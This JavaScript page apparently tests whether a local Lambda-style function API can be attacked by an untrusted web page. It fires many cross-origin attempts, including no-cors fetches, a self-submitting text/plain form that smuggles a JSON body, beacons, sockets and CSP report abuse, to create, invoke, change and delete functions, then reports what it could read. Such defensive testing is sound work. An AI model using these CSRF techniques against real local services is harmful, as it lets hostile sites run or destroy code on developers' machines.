// All that a page can try against the server at `target`, in the ways that browsers leave open to
// the pages of strangers. Each attempt carries its name in the query. In the end the page sends
// all that it could read to where it came from, and leaves by a form that submits itself.
const target = new URLSearchParams(location.search).get("target");
const { zip } = document.currentScript.dataset;
const functions = `${target}/2015-03-31/functions`;
const victim = (via) => `${functions}/victim?via=${via}`;
const creation = (via) => JSON.stringify({
  FunctionName: `by-${via}`,
  Runtime: "provided.al2023",
  Handler: "function.handler",
  Role: "arn:aws:iam::000000000000:role/any",
  Code: { ZipFile: zip },
  Description: "=",
});

const read = async (response) =>
  ({ type: response.type, status: response.status, text: await response.text() });
const call = async (url, options) => read(await fetch(url, options));
const text = { "content-type": "text/plain" };
const json = { "content-type": "application/json" };
const post = (via, more) => ({ method: "POST", headers: text, body: creation(via), ...more });

const xhr = (method, url, body) => new Promise((done, failed) => {
  const request = new XMLHttpRequest();
  request.open(method, url);
  request.onload = () => done({ status: request.status, text: request.responseText });
  request.onerror = () => failed(new Error("the answer may not be read"));
  request.send(body);
});

// Puts an element into the page and waits until the browser has done with it.
const element = (name, attributes) => new Promise((done) => {
  const element = document.createElement(name);
  element.onload = () => done({ event: "load", text: inside(element) });
  element.onerror = () => done({ event: "error" });
  Object.assign(element, attributes);
  document.body.append(element);
});
const inside = (frame) => {
  try {
    return frame.contentDocument?.body.textContent ?? "";
  } catch {
    return "";
  }
};

// The name of the one field has all of the JSON but the end, which its value has.
const form = (via, frame) => {
  const [start, end] = creation(via).split(/=(?="}$)/);
  const form = document.createElement("form");
  Object.assign(form, { method: "POST", enctype: "text/plain", target: frame });
  form.action = `${functions}?via=${via}`;
  const field = document.createElement("input");
  Object.assign(field, { type: "hidden", name: start, value: end });
  form.append(field);
  document.body.append(form);
  form.submit();
};
const framed = (via) => new Promise((done) => {
  const frame = document.createElement("iframe");
  frame.name = via;
  document.body.append(frame);
  frame.onload = () => done({ text: inside(frame) });
  form(via, frame.name);
});

const socket = (via) => new Promise((done) => {
  const socket = new WebSocket(victim(via).replace(/^http/, "ws"));
  socket.onopen = () => done({ text: "open" });
  socket.onclose = () => done({ event: "close" });
});
const events = (via) => new Promise((done) => {
  const source = new EventSource(victim(via));
  source.onopen = () => done({ text: "open" });
  source.onerror = () => { source.close(); done({ event: "error" }); };
});

const attempts = {
  "fetch-opaque": (via) => call(`${functions}?via=${via}`, post(via, { mode: "no-cors" })),
  "fetch-text": (via) => call(`${functions}?via=${via}`, post(via)),
  "fetch-json": (via) => call(`${functions}?via=${via}`, post(via, { headers: json })),
  "fetch-redirect": (via) => call(
    `/page/redirect?to=${functions}?via=${via}`, post(via, { mode: "no-cors" })),
  "xhr": (via) => xhr("POST", `${functions}?via=${via}`, creation(via)),
  "form": framed,
  "beacon": async (via) => ({
    sent: navigator.sendBeacon(
      `${functions}?via=${via}`, new Blob([creation(via)], { type: "text/plain" })),
  }),
  "invoke": (via) => call(
    `${functions}/victim/invocations?via=${via}`,
    // A body without a type: the server takes it for JSON.
    { method: "POST", mode: "no-cors", body: new Blob(["{}"]) }),
  "change": (via) => call(
    `${functions}/victim/configuration?via=${via}`,
    { method: "PUT", headers: json, body: JSON.stringify({ Description: "changed" }) }),
  "delete": (via) => call(`${functions}/doomed?via=${via}`, { method: "DELETE" }),
  "read": (via) => call(victim(via)),
  "read-opaque": (via) => call(victim(via), { mode: "no-cors" }),
  "read-xhr": (via) => xhr("GET", victim(via)),
  "img": (via) => element("img", { src: victim(via) }),
  "script": (via) => element("script", { src: victim(via) }),
  "link": (via) => element("link", { rel: "stylesheet", href: victim(via) }),
  "iframe": (via) => element("iframe", { src: victim(via) }),
  "refresh": (via) => element("iframe", {
    srcdoc: `<meta http-equiv="refresh" content="0;url=${victim(via)}">`,
  }),
  "websocket": socket,
  "eventsource": events,
  // The page's policy forbids media, and has the browser itself post each breach to where it says:
  // PublishVersion takes any JSON object.
  "policy": (via) => new Promise((done) => {
    document.addEventListener("securitypolicyviolation", () => done({ event: via }));
    new Audio("/page/sound").load();
  }),
};

const tried = Object.entries(attempts).map(async ([via, attempt]) => {
  const result = await attempt(via).catch((error) => ({ error: String(error) }));
  return [via, result];
});
Promise.all(tried).then(async (results) => {
  const body = JSON.stringify(Object.fromEntries(results));
  await fetch("/page/report", { method: "POST", mode: "no-cors", body });
  form("form-top", "_top");
});
